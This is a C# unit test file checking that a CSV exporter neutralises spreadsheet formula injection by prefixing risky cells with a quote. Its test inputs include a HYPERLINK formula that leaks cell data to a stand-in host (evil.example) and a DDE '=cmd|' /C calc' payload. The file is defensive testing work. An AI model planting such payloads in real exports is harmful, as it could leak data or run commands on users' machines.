using PainReview.Data.Export;

namespace PainReview.Web.Tests.Unit;

/// <summary>
/// CSV formula injection (OWASP): text that a spreadsheet would run as a formula is exported as
/// text; numbers stay numbers.
/// </summary>
public sealed class CsvExportInjectionTests
{
    private sealed class Row
    {
        public string? Text { get; set; }
        public double? Value { get; set; }
        public float? Yaw { get; set; }
        public int Count { get; set; }
    }

    private static async Task<string[]> CsvAsync(params Row[] rows)
    {
        using var writer = new StringWriter { NewLine = "\n" };
        await CsvTable<Row>.WriteHeaderAsync(writer);
        await CsvTable<Row>.WriteRowsAsync(writer, rows);
        return writer.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")")]
    [InlineData("+1", "'+1")]
    [InlineData("-2", "'-2")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("=1+1", "'=1+1")]
    public void Formula_like_text_gets_a_leading_quote(string text, string expected)
    {
        Assert.True(CsvCell.IsFormulaLike(text));
        Assert.Equal(expected, CsvCell.Neutralise(text));
    }

    [Theory]
    [InlineData("C-01")]
    [InlineData("baseline")]
    [InlineData("re-rated, after review")]
    [InlineData("a=b")]
    [InlineData(" =1+1")]
    [InlineData("")]
    [InlineData("'quoted already")]
    public void Ordinary_text_is_unchanged(string text)
    {
        Assert.False(CsvCell.IsFormulaLike(text));
        Assert.Equal(text, CsvCell.Neutralise(text));
    }

    [Fact]
    public void A_hyperlink_formula_becomes_a_quoted_text_cell()
    {
        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"", CsvCell.Text("=HYPERLINK(\"http://evil.example\",\"x\")"));
    }

    [Theory]
    [InlineData("+1", "\"'+1\"")]
    [InlineData("-2", "\"'-2\"")]
    [InlineData("@SUM(A1:A9)", "\"'@SUM(A1:A9)\"")]
    [InlineData("\tx", "\"'\tx\"")]
    [InlineData("\rx", "\"'\rx\"")]
    [InlineData("plain", "plain")]
    [InlineData("with, comma", "\"with, comma\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    public void Text_cells_are_neutralised_then_quoted(string text, string cell) => Assert.Equal(cell, CsvCell.Text(text));

    [Fact]
    public async Task Export_rows_neutralise_text_and_keep_negative_numbers_plain()
    {
        var lines = await CsvAsync(
            new Row { Text = "=HYPERLINK(\"http://evil.example\",\"x\")", Value = -2.5, Yaw = -12.5f, Count = -3 },
            new Row { Text = "-2", Value = -0.125 },
            new Row { Text = "@SUM(A1:A9)" },
            new Row { Text = "\tx" },
            new Row { Text = "ordinary text", Value = 4 });
        Assert.Equal("Text,Value,Yaw,Count", lines[0]);
        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",-2.5,-12.5,-3", lines[1]);
        Assert.Equal("\"'-2\",-0.125,,0", lines[2]);
        Assert.Equal("\"'@SUM(A1:A9)\",,,0", lines[3]);
        Assert.Equal("\"'\tx\",,,0", lines[4]);
        Assert.Equal("ordinary text,4,,0", lines[5]);
    }

    [Fact]
    public async Task Real_export_row_types_neutralise_their_text_columns()
    {
        using var writer = new StringWriter { NewLine = "\n" };
        await CsvTable<RecordingRow>.WriteRowsAsync(writer, [new RecordingRow
        {
            recording_id = "r1", participant = "+P-01", timepoint = "=cmd|' /C calc'!A0", vas_correction_reason = "-re-rated", vas = -1, file_sha256 = "ab",
        }]);
        var row = writer.ToString().TrimEnd('\n');
        var columns = CsvTable<RecordingRow>.Columns.ToArray();
        var recordingCells = row.Split(',');
        Assert.Equal("\"'+P-01\"", recordingCells[Array.IndexOf(columns, "participant")]);
        Assert.Contains(",\"'=cmd|' /C calc'!A0\",", row);
        Assert.Contains(",\"'-re-rated\",", row);
        Assert.Contains(",-1,", row);

        using var frames = new StringWriter { NewLine = "\n" };
        await CsvTable<FrameRow>.WriteRowsAsync(frames, [new FrameRow { recording_id = "r1", participant = "@x", yaw = -12.5f, pitch = -3f, review = "=1" }]);
        var cells = frames.ToString().TrimEnd('\n').Split(',');
        Assert.Equal("\"'@x\"", cells[Array.IndexOf(CsvTable<FrameRow>.Columns.ToArray(), "participant")]);
        Assert.Equal("-12.5", cells[Array.IndexOf(CsvTable<FrameRow>.Columns.ToArray(), "yaw")]);
        Assert.Equal("-3", cells[Array.IndexOf(CsvTable<FrameRow>.Columns.ToArray(), "pitch")]);
        Assert.Equal("\"'=1\"", cells[^1]);
    }
}
